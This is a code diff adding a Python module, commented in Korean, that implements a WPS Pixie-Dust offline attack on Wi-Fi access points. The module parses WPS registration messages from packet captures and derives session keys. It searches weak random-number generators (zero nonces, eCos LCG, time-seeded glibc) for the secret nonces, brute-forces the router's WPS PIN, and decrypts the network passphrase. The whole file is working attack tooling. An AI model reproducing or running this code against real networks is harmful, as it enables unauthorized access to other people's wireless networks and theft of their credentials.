@@ -0,0 +1,589 @@
+import hashlib
+import hmac
+import os
+import struct
+import threading
+from concurrent.futures import FIRST_COMPLETED, ProcessPoolExecutor, wait
+from typing import Dict, Iterator, List, NamedTuple, Optional, Tuple
+
+import numpy as np
+from cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes
+
+from services import dot11
+from services.pcap import open_capture
+from utils.process import pool_context, terminate_pool
+
+# EAP-WSC (EAP 확장 타입, Wi-Fi Alliance 벤더 ID 00:37:2A, 벤더 타입 1)
+_EAP_TYPE_EXPANDED = 254
+_WFA_VENDOR = b'\x00\x37\x2a\x00\x00\x00\x01'
+_OP_WSC_MSG = 0x04
+_FLAG_MORE = 0x01
+_FLAG_LENGTH = 0x02
+
+# WSC 메시지 타입
+MSG_M1 = 0x04
+MSG_M2 = 0x05
+MSG_M3 = 0x07
+MSG_M5 = 0x09
+MSG_M7 = 0x0B
+
+# WSC 속성 타입
+ATTR_CREDENTIAL = 0x100E
+ATTR_DEVICE_NAME = 0x1011
+ATTR_E_HASH1 = 0x1014
+ATTR_E_HASH2 = 0x1015
+ATTR_E_SNONCE1 = 0x1016
+ATTR_E_SNONCE2 = 0x1017
+ATTR_ENCRYPTED_SETTINGS = 0x1018
+ATTR_ENROLLEE_NONCE = 0x101A
+ATTR_MAC_ADDRESS = 0x1020
+ATTR_MANUFACTURER = 0x1021
+ATTR_MESSAGE_TYPE = 0x1022
+ATTR_MODEL_NAME = 0x1023
+ATTR_MODEL_NUMBER = 0x1024
+ATTR_NETWORK_KEY = 0x1027
+ATTR_PUBLIC_KEY = 0x1032
+ATTR_REGISTRAR_NONCE = 0x1039
+ATTR_SSID = 0x1045
+
+# Diffie-Hellman 1536비트 MODP 그룹 (RFC 3526 group 5, 생성원 2)
+DH_PRIME = int(
+    'FFFFFFFFFFFFFFFFC90FDAA22168C234C4C6628B80DC1CD129024E088A67CC74020BBEA63B139B22514A08798E3404DD'
+    'EF9519B3CD3A431B302B0A6DF25F14374FE1356D6D51C245E485B576625E7EC6F44C42E9A637ED6B0BFF5CB6F406B7ED'
+    'EE386BFB5A899FA5AE9F24117C4B1FE649286651ECE45B3DC2007CB8A163BF0598DA48361C55D39A69163FA8FD24CF5F'
+    '83655D23DCA3AD961C62F356208552BB9ED529077096966D670C354E4ABC9804F1746C08CA237327FFFFFFFFFFFFFFFF', 16
+)
+DH_LENGTH = 192
+
+_KDF_LABEL = b'Wi-Fi Easy and Secure Key Derivation'
+_KDF_BITS = 640  # AuthKey(256) + KeyWrapKey(128) + EMSK(256)
+
+# E-S1/E-S2 생성 방식 가설
+MODE_DECRYPTED = 'decrypted'      # M5/M7 암호화 설정의 E-SNonce (교환 전체가 캡처된 경우)
+MODE_ZERO = 'zero'                # 0으로 채운 E-S (Ralink/MediaTek)
+MODE_E_NONCE = 'e-nonce'          # E-S = E-Nonce
+MODE_ECOS = 'ecos-simple'         # eCos LCG (state = state * 1103515245 + 12345, 32비트 출력)
+MODE_GLIBC_TIME = 'glibc-time'    # 부팅 시각 또는 현재 시각으로 srandom()한 glibc random()
+
+# E-Nonce 이후 E-S1 앞까지 PRNG가 다른 용도로 소비했을 수 있는 32비트 출력 수
+PRNG_LOOKAHEAD = 16
+_NONCE_WORDS = 4
+
+_SEED_CHUNK = 1 << 16  # 워커 호출당 glibc 시드 수
+_FIRST_HALF_BATCH = 4  # 워커 호출당 E-S1 후보 수
+
+
+class WPSExchange(NamedTuple):
+    """Pixie-Dust에 필요한 M1~M3 값 (M5/M7 암호화 설정은 있으면 포함)"""
+    bssid: str
+    station: str
+    enrollee_mac: bytes
+    e_nonce: bytes
+    r_nonce: bytes
+    pke: bytes
+    pkr: bytes
+    e_hash1: bytes
+    e_hash2: bytes
+    m5_settings: Optional[bytes]
+    m7_settings: Optional[bytes]
+    device: Dict[str, str]
+    timestamp: float  # M1 캡처 시각
+
+
+class SessionKeys(NamedTuple):
+    """DH 공유 비밀에서 유도한 WPS 세션 키"""
+    auth_key: bytes
+    key_wrap_key: bytes
+    emsk: bytes
+
+
+class WPSResult(NamedTuple):
+    """Pixie-Dust로 복구한 PIN과 PSK"""
+    pin: str
+    psk: Optional[str]
+    ssid: Optional[str]
+    mode: str
+    seed: Optional[int]
+    hypotheses: int
+    device: Dict[str, str]
+
+    def to_dict(self) -> Dict[str, object]:
+        return {
+            'pin': self.pin,
+            'psk': self.psk,
+            'ssid': self.ssid,
+            'mode': self.mode,
+            'seed': self.seed,
+            'hypotheses': self.hypotheses,
+            'device': self.device
+        }
+
+
+def iter_attributes(data: bytes) -> Iterator[Tuple[int, bytes]]:
+    """WSC 속성 (타입, 값) 순회 (타입/길이 각 2바이트, 빅 엔디언)"""
+    offset = 0
+    while offset + 4 <= len(data):
+        attr_type, attr_len = struct.unpack_from('>HH', data, offset)
+        end = offset + 4 + attr_len
+        if end > len(data):
+            break
+        yield attr_type, bytes(data[offset + 4:end])
+        offset = end
+
+
+def parse_wsc(payload: memoryview) -> Optional[Tuple[int, int, bytes]]:
+    """EAPOL 페이로드에서 EAP-WSC 조각 파싱 ((EAP 코드, 플래그, WSC 데이터))"""
+    # EAPOL 헤더(4) + EAP 헤더(4) + 확장 타입(1) + 벤더(7) + Op-Code(1) + Flags(1)
+    if len(payload) < 18 or payload[1] != 0:
+        return None
+    eap_code = payload[4]
+    eap_length = (payload[6] << 8) | payload[7]
+    if eap_code not in (1, 2) or payload[8] != _EAP_TYPE_EXPANDED or bytes(payload[9:16]) != _WFA_VENDOR:
+        return None
+    if payload[16] != _OP_WSC_MSG:
+        return None
+    flags = payload[17]
+    offset = 20 if flags & _FLAG_LENGTH else 18
+    end = min(4 + eap_length, len(payload))
+    return eap_code, flags, bytes(payload[offset:end])
+
+
+class _Session:
+    """AP-클라이언트 쌍별 WSC 메시지 버퍼"""
+
+    __slots__ = ('attributes', 'fragments', 'timestamp')
+
+    def __init__(self):
+        self.attributes: Dict[int, Dict[int, bytes]] = {}  # 메시지 타입 -> 속성
+        self.fragments: Dict[int, bytearray] = {}  # EAP 코드(방향) -> 재조립 중인 데이터
+        self.timestamp = 0.0
+
+
+class WPSIndex:
+    """BSSID별 WPS 등록 교환(M1~M7) 인덱스
+
+    캡처를 한 번만 순회하면서 EAP-WSC 메시지를 AP-클라이언트 쌍별로 재조립하고,
+    M1~M3가 모두 모이면 WPSExchange를 만듭니다. M5/M7이 이어서 들어오면 갱신합니다.
+    """
+
+    def __init__(self):
+        self.exchanges: Dict[str, WPSExchange] = {}
+        self.ssids: Dict[str, str] = {}
+        self.message_count = 0
+        self._sessions: Dict[Tuple[bytes, bytes], _Session] = {}
+
+    @classmethod
+    def from_capture(cls, path: str) -> 'WPSIndex':
+        """캡처 파일 전체를 한 번 순회하여 인덱스 생성"""
+        index = cls()
+        with open_capture(path) as reader:
+            for timestamp, frame in reader.dot11_frames():
+                index.feed(timestamp, frame)
+        return index
+
+    def feed(self, timestamp: float, frame: memoryview):
+        """802.11 프레임 하나 처리"""
+        ftype = (frame[0] >> 2) & 0x3
+
+        if ftype == dot11.TYPE_MANAGEMENT:
+            found = dot11.management_ssid(frame)
+            if found:
+                self.ssids.setdefault(dot11.mac_to_str(found[0]), found[1])
+            return
+
+        if ftype != dot11.TYPE_DATA:
+            return
+
+        llc = dot11.llc_payload(frame)
+        if llc is None or llc[0] != dot11.ETHERTYPE_EAPOL:
+            return
+        wsc = parse_wsc(llc[1])
+        if wsc is None:
+            return
+
+        addresses = dot11.data_addresses(frame)
+        if addresses is None:
+            return
+        bssid, source, destination = addresses
+        station = destination if source == bssid else source
+
+        session = self._sessions.get((bssid, station))
+        if session is None:
+            session = self._sessions[(bssid, station)] = _Session()
+
+        eap_code, flags, data = wsc
+        buffer = session.fragments.setdefault(eap_code, bytearray())
+        buffer += data
+        if flags & _FLAG_MORE:
+            return
+        message = bytes(buffer)
+        buffer.clear()
+
+        attributes = dict(iter_attributes(message))
+        message_type = attributes.get(ATTR_MESSAGE_TYPE)
+        if not message_type:
+            return
+        self.message_count += 1
+        if message_type[0] == MSG_M1:
+            # 새 등록 교환 시작
+            session.attributes = {}
+            session.timestamp = timestamp
+        session.attributes[message_type[0]] = attributes
+        self._update(bssid, station, session)
+
+    def _update(self, ap_mac: bytes, sta_mac: bytes, session: _Session):
+        """M1~M3가 모두 모였으면 교환 등록"""
+        m1 = session.attributes.get(MSG_M1)
+        m2 = session.attributes.get(MSG_M2)
+        m3 = session.attributes.get(MSG_M3)
+        if not (m1 and m2 and m3):
+            return
+        required = (m1.get(ATTR_ENROLLEE_NONCE), m1.get(ATTR_PUBLIC_KEY), m2.get(ATTR_REGISTRAR_NONCE),
+                    m2.get(ATTR_PUBLIC_KEY), m3.get(ATTR_E_HASH1), m3.get(ATTR_E_HASH2))
+        if not all(required):
+            return
+        e_nonce, pke, r_nonce, pkr, e_hash1, e_hash2 = required
+
+        m5 = session.attributes.get(MSG_M5, {})
+        m7 = session.attributes.get(MSG_M7, {})
+        device = {
+            name: m1[attr].decode('utf-8', errors='replace').strip('\x00 ')
+            for name, attr in (('manufacturer', ATTR_MANUFACTURER), ('model_name', ATTR_MODEL_NAME),
+                               ('model_number', ATTR_MODEL_NUMBER), ('device_name', ATTR_DEVICE_NAME))
+            if attr in m1
+        }
+        bssid = dot11.mac_to_str(ap_mac)
+        self.exchanges[bssid] = WPSExchange(
+            bssid=bssid,
+            station=dot11.mac_to_str(sta_mac),
+            enrollee_mac=m1.get(ATTR_MAC_ADDRESS, ap_mac),
+            e_nonce=e_nonce,
+            r_nonce=r_nonce,
+            pke=pke,
+            pkr=pkr,
+            e_hash1=e_hash1,
+            e_hash2=e_hash2,
+            m5_settings=m5.get(ATTR_ENCRYPTED_SETTINGS),
+            m7_settings=m7.get(ATTR_ENCRYPTED_SETTINGS),
+            device=device,
+            timestamp=session.timestamp
+        )
+
+    def best(self, bssid: Optional[str] = None) -> Optional[WPSExchange]:
+        """BSSID의 등록 교환 (BSSID 미지정 시 첫 번째 AP)"""
+        if bssid is None:
+            return next(iter(self.exchanges.values()), None)
+        return self.exchanges.get(dot11.normalize_bssid(bssid))
+
+    def ssid_for(self, bssid: str) -> Optional[str]:
+        """비콘/프로브 응답에서 수집한 SSID 조회"""
+        return self.ssids.get(dot11.normalize_bssid(bssid))
+
+
+def registrar_private_key(exchange: WPSExchange) -> Optional[int]:
+    """레지스트라 DH 개인 키 (알 수 없으면 None)
+
+    reaver/bully의 small DH 모드처럼 PKr이 2(= g^1)이면 개인 키는 1입니다.
+    """
+    if int.from_bytes(exchange.pkr, 'big') == 2:
+        return 1
+    return None
+
+
+def derive_session_keys(exchange: WPSExchange, private_key: int) -> SessionKeys:
+    """DHKey -> KDK -> KDF로 AuthKey/KeyWrapKey/EMSK 유도 (WSC 2.0 7.4)"""
+    shared = pow(int.from_bytes(exchange.pke, 'big'), private_key, DH_PRIME)
+    dh_key = hashlib.sha256(shared.to_bytes(DH_LENGTH, 'big')).digest()
+    kdk = hmac.new(dh_key, exchange.e_nonce + exchange.enrollee_mac + exchange.r_nonce, hashlib.sha256).digest()
+    material = b''.join(
+        hmac.new(kdk, struct.pack('>I', i) + _KDF_LABEL + struct.pack('>I', _KDF_BITS), hashlib.sha256).digest()
+        for i in range(1, (_KDF_BITS + 255) // 256 + 1)
+    )
+    return SessionKeys(material[:32], material[32:48], material[48:80])
+
+
+def decrypt_settings(key_wrap_key: bytes, encrypted: bytes) -> Dict[int, bytes]:
+    """암호화 설정 속성 복호화 (IV 16바이트 + AES-128-CBC)"""
+    if len(encrypted) < 32 or len(encrypted) % 16:
+        return {}
+    decryptor = Cipher(algorithms.AES(key_wrap_key), modes.CBC(encrypted[:16])).decryptor()
+    plaintext = decryptor.update(encrypted[16:]) + decryptor.finalize()
+    padding = plaintext[-1]
+    if not 1 <= padding <= 16:
+        return {}
+    return dict(iter_attributes(plaintext[:-padding]))
+
+
+def pin_checksum(pin7: int) -> int:
+    """WPS PIN 8번째 자리 체크섬"""
+    accum = 0
+    while pin7:
+        accum += 3 * (pin7 % 10)
+        pin7 //= 10
+        accum += pin7 % 10
+        pin7 //= 10
+    return (10 - accum % 10) % 10
+
+
+def _half_psk(auth_key_mac: 'hmac.HMAC', half: bytes) -> bytes:
+    mac = auth_key_mac.copy()
+    mac.update(half)
+    return mac.digest()[:16]
+
+
+def _e_hash(auth_key_mac: 'hmac.HMAC', secret_nonce: bytes, psk: bytes, public_keys: bytes) -> bytes:
+    mac = auth_key_mac.copy()
+    mac.update(secret_nonce + psk + public_keys)
+    return mac.digest()
+
+
+def glibc_random(seeds: np.ndarray, count: int) -> np.ndarray:
+    """seed별로 srandom(seed) 후 random()을 count번 호출한 결과 ((N, count) uint32)
+
+    glibc TYPE_3 상태(31워드)를 16807 곱셈 LCG로 채운 뒤 r[i] = r[i-31] + r[i-3]을
+    310번 버리고 출력합니다. 34개 슬롯 링 버퍼로 시드 배열 전체를 한 번에 계산합니다.
+    """
+    seeds = np.asarray(seeds, dtype=np.int64)
+    ring = np.empty((34, len(seeds)), dtype=np.uint32)
+    word = np.where(seeds == 0, 1, seeds) & 0xFFFFFFFF
+    ring[0] = word
+    for i in range(1, 31):
+        word = (16807 * word) % 2147483647
+        ring[i] = word
+    for i in range(31, 34):
+        ring[i] = ring[i - 31]
+
+    out = np.empty((len(seeds), count), dtype=np.uint32)
+    for i in range(34, 344 + count):
+        value = ring[(i + 3) % 34] + ring[(i + 31) % 34]
+        ring[i % 34] = value
+        if i >= 344:
+            out[:, i - 344] = value >> 1
+    return out
+
+
+def _nonce_words(nonce: bytes) -> Tuple[int, ...]:
+    return struct.unpack('>4I', nonce)
+
+
+def _search_seeds(start: int, end: int, nonce_words: Tuple[int, ...]) -> List[int]:
+    """[start, end) 시드 중 random() 처음 4개가 E-Nonce 워드와 같은 시드 (워커 프로세스에서 실행)"""
+    seeds = np.arange(start, end, dtype=np.int64)
+    outputs = glibc_random(seeds, _NONCE_WORDS)
+    matches = np.all(outputs == np.array(nonce_words, dtype=np.uint32), axis=1)
+    return [int(seed) for seed in seeds[matches]]
+
+
+_worker_auth_key: Optional[bytes] = None
+_worker_public_keys = b''
+_worker_first_halves: List[Tuple[bytes, bytes]] = []
+
+
+def _init_worker(auth_key: bytes, public_keys: bytes):
+    global _worker_auth_key, _worker_public_keys, _worker_first_halves
+    _worker_auth_key = auth_key
+    _worker_public_keys = public_keys
+    # PIN 앞 4자리별 PSK1은 모든 E-S1 후보에 공통이므로 워커당 한 번만 계산
+    mac = hmac.new(auth_key, digestmod=hashlib.sha256)
+    _worker_first_halves = [
+        (half, _half_psk(mac, half)) for half in (f'{n:04d}'.encode() for n in range(10000))
+    ]
+
+
+def _match_first_half(candidates: List[bytes], e_hash1: bytes) -> Optional[Tuple[int, str]]:
+    """E-S1 후보 중 E-Hash1과 일치하는 (후보 위치, PIN 앞 4자리) (워커 프로세스에서 실행)"""
+    mac = hmac.new(_worker_auth_key, digestmod=hashlib.sha256)
+    for position, secret_nonce in enumerate(candidates):
+        for half, psk1 in _worker_first_halves:
+            if _e_hash(mac, secret_nonce, psk1, _worker_public_keys) == e_hash1:
+                return position, half.decode()
+    return None
+
+
+def match_second_half(auth_key: bytes, exchange: WPSExchange, secret_nonce: bytes, first_half: str) -> Optional[str]:
+    """E-S2로 PIN 뒤 4자리 탐색 (체크섬이 맞는 1000개 먼저, 없으면 나머지)"""
+    mac = hmac.new(auth_key, digestmod=hashlib.sha256)
+    public_keys = exchange.pke + exchange.pkr
+    prefix = int(first_half) * 1000
+    checksummed = [
+        f'{(prefix + n) % 1000:03d}{pin_checksum(prefix + n)}' for n in range(1000)
+    ]
+    others = sorted(set(f'{n:04d}' for n in range(10000)) - set(checksummed))
+    for half in checksummed + others:
+        psk2 = _half_psk(mac, half.encode())
+        if _e_hash(mac, secret_nonce, psk2, public_keys) == exchange.e_hash2:
+            return first_half + half
+    return None
+
+
+class _Hypothesis(NamedTuple):
+    mode: str
+    seed: Optional[int]
+    e_s1: bytes
+    e_s2: List[bytes]
+
+
+def _stream_hypotheses(mode: str, seed: Optional[int], words: List[int]) -> List[_Hypothesis]:
+    """E-Nonce 뒤 PRNG 출력에서 E-S1/E-S2 후보 (E-S1 앞에서 버려진 출력 수별)"""
+    pack = lambda chunk: struct.pack(f'>{len(chunk)}I', *chunk)
+    hypotheses = []
+    for skip in range(PRNG_LOOKAHEAD):
+        e_s1 = pack(words[skip:skip + 4])
+        e_s2 = [pack(words[skip + 4:skip + 8]), e_s1]
+        hypotheses.append(_Hypothesis(mode, seed, e_s1, e_s2))
+    return hypotheses
+
+
+def ecos_simple(state: int, count: int) -> List[int]:
+    """eCos 단순 LCG의 다음 출력 count개"""
+    words = []
+    for _ in range(count):
+        state = (state * 1103515245 + 12345) & 0xFFFFFFFF
+        words.append(state)
+    return words
+
+
+class PixieDustEngine:
+    """ProcessPoolExecutor 기반 WPS Pixie-Dust 오프라인 공격 엔진
+
+    캡처한 M1~M3의 E-Hash1/E-Hash2는 AuthKey, E-S1/E-S2, PIN 반쪽으로만 결정되므로,
+    AP가 E-S를 약한 PRNG로 만들었다면 PIN을 온라인 시도 없이 복구할 수 있습니다.
+    glibc 시간 시드 탐색과 E-S1 후보별 PIN 앞 4자리 탐색(후보당 HMAC 1만 번)을 워커에 분산하고,
+    M7 암호화 설정이 있으면 KeyWrapKey로 복호화해 PSK까지 반환합니다.
+    """
+
+    def __init__(self, workers: Optional[int] = None, seed_window: int = 172800):
+        """
+        Args:
+            workers: 워커 프로세스 수 (None이면 CPU 코어 수)
+            seed_window: glibc 시간 시드 탐색 범위 (캡처 시각 ±초, 부팅 후 경과 0~초)
+        """
+        self.workers = workers or os.cpu_count() or 1
+        self.seed_window = seed_window
+
+    def seed_ranges(self, timestamp: float) -> List[Tuple[int, int]]:
+        """탐색할 시드 구간 (NTP 없이 부팅 시각부터 세는 AP, 시계가 맞는 AP)"""
+        now = int(timestamp)
+        ranges = [(0, self.seed_window)]
+        if now > self.seed_window:
+            ranges.append((max(self.seed_window, now - self.seed_window), now + self.seed_window))
+        return ranges
+
+    def crack(self, exchange: WPSExchange, private_key: Optional[int] = None,
+              cancel_event: Optional[threading.Event] = None) -> Optional[WPSResult]:
+        """PIN 복구 (레지스트라 개인 키를 모르거나 모든 가설이 실패하면 None)"""
+        if private_key is None:
+            private_key = registrar_private_key(exchange)
+        if private_key is None:
+            return None
+        keys = derive_session_keys(exchange, private_key)
+        public_keys = exchange.pke + exchange.pkr
+
+        executor = ProcessPoolExecutor(
+            max_workers=self.workers,
+            mp_context=pool_context(),
+            initializer=_init_worker,
+            initargs=(keys.auth_key, public_keys)
+        )
+        try:
+            hypotheses = self._hypotheses(exchange, keys, executor, cancel_event)
+            found = self._search(exchange, hypotheses, executor, cancel_event)
+        finally:
+            terminate_pool(executor)
+        if found is None:
+            return None
+
+        hypothesis, first_half, tried = found
+        for e_s2 in hypothesis.e_s2:
+            pin = match_second_half(keys.auth_key, exchange, e_s2, first_half)
+            if pin:
+                psk, ssid = self._credentials(exchange, keys)
+                return WPSResult(pin, psk, ssid, hypothesis.mode, hypothesis.seed, tried, exchange.device)
+        return None
+
+    def _hypotheses(self, exchange: WPSExchange, keys: SessionKeys, executor: ProcessPoolExecutor,
+                    cancel_event: Optional[threading.Event]) -> List[_Hypothesis]:
+        """가능성이 높은 순서의 E-S1/E-S2 가설 목록"""
+        hypotheses = []
+        m5 = decrypt_settings(keys.key_wrap_key, exchange.m5_settings) if exchange.m5_settings else {}
+        m7 = decrypt_settings(keys.key_wrap_key, exchange.m7_settings) if exchange.m7_settings else {}
+        if ATTR_E_SNONCE1 in m5:
+            e_s2 = [m7[ATTR_E_SNONCE2]] if ATTR_E_SNONCE2 in m7 else []
+            hypotheses.append(_Hypothesis(MODE_DECRYPTED, None, m5[ATTR_E_SNONCE1], e_s2))
+
+        zero = bytes(16)
+        hypotheses.append(_Hypothesis(MODE_ZERO, None, zero, [zero]))
+        hypotheses.append(_Hypothesis(MODE_E_NONCE, None, exchange.e_nonce, [exchange.e_nonce]))
+
+        words = _nonce_words(exchange.e_nonce)
+        if ecos_simple(words[0], _NONCE_WORDS - 1) == list(words[1:]):
+            stream = ecos_simple(words[-1], PRNG_LOOKAHEAD + 8)
+            hypotheses += _stream_hypotheses(MODE_ECOS, words[0], stream)
+
+        # random()은 31비트이므로 최상위 비트가 켜진 워드가 있으면 glibc 가설 제외
+        if all(word < 0x80000000 for word in words):
+            for seed in self._find_seeds(exchange, executor, cancel_event):
+                outputs = glibc_random(np.array([seed]), _NONCE_WORDS + PRNG_LOOKAHEAD + 8)[0]
+                hypotheses += _stream_hypotheses(MODE_GLIBC_TIME, seed, [int(w) for w in outputs[_NONCE_WORDS:]])
+        return hypotheses
+
+    def _find_seeds(self, exchange: WPSExchange, executor: ProcessPoolExecutor,
+                    cancel_event: Optional[threading.Event]) -> List[int]:
+        """E-Nonce를 만든 glibc 시드 탐색"""
+        words = _nonce_words(exchange.e_nonce)
+        futures = [
+            executor.submit(_search_seeds, start, min(start + _SEED_CHUNK, end), words)
+            for range_start, end in self.seed_ranges(exchange.timestamp)
+            for start in range(range_start, end, _SEED_CHUNK)
+        ]
+        seeds = []
+        for future in futures:
+            # 구간 하나가 끝나기를 기다리는 동안에도 취소를 확인
+            while not future.done():
+                if cancel_event is not None and cancel_event.is_set():
+                    return seeds
+                wait([future], timeout=0.5)
+            seeds += future.result()
+        return seeds
+
+    def _search(self, exchange: WPSExchange, hypotheses: List[_Hypothesis], executor: ProcessPoolExecutor,
+                cancel_event: Optional[threading.Event]) -> Optional[Tuple[_Hypothesis, str, int]]:
+        """E-S1 가설을 워커에 나눠 PIN 앞 4자리 탐색 ((가설, 앞 4자리, 검증한 가설 수))"""
+        pending = {}
+        for start in range(0, len(hypotheses), _FIRST_HALF_BATCH):
+            batch = hypotheses[start:start + _FIRST_HALF_BATCH]
+            future = executor.submit(_match_first_half, [h.e_s1 for h in batch], exchange.e_hash1)
+            pending[future] = start
+
+        tried = 0
+        while pending:
+            done, _ = wait(pending, timeout=0.5, return_when=FIRST_COMPLETED)
+            for future in done:
+                start = pending.pop(future)
+                tried += min(_FIRST_HALF_BATCH, len(hypotheses) - start)
+                match = future.result()
+                if match is not None:
+                    position, first_half = match
+                    return hypotheses[start + position], first_half, tried
+            if cancel_event is not None and cancel_event.is_set():
+                return None
+        return None
+
+    def _credentials(self, exchange: WPSExchange, keys: SessionKeys) -> Tuple[Optional[str], Optional[str]]:
+        """M7 암호화 설정의 (PSK, SSID) (AP가 enrollee로 설정을 보낸 경우)"""
+        if not exchange.m7_settings:
+            return None, None
+        settings = decrypt_settings(keys.key_wrap_key, exchange.m7_settings)
+        if ATTR_CREDENTIAL in settings:
+            settings = dict(iter_attributes(settings[ATTR_CREDENTIAL]))
+        decode = lambda value: value.decode('utf-8', errors='replace') if value is not None else None
+        return decode(settings.get(ATTR_NETWORK_KEY)), decode(settings.get(ATTR_SSID))
+
+
+def recover_wps_pin(path: str, bssid: Optional[str] = None,
+                    workers: Optional[int] = None) -> Tuple[Optional[WPSExchange], Optional[WPSResult]]:
+    """캡처 파일의 WPS 등록 교환으로 PIN 복구 (교환과 결과)"""
+    exchange = WPSIndex.from_capture(path).best(bssid)
+    if exchange is None:
+        return None, None
+    return exchange, PixieDustEngine(workers).crack(exchange)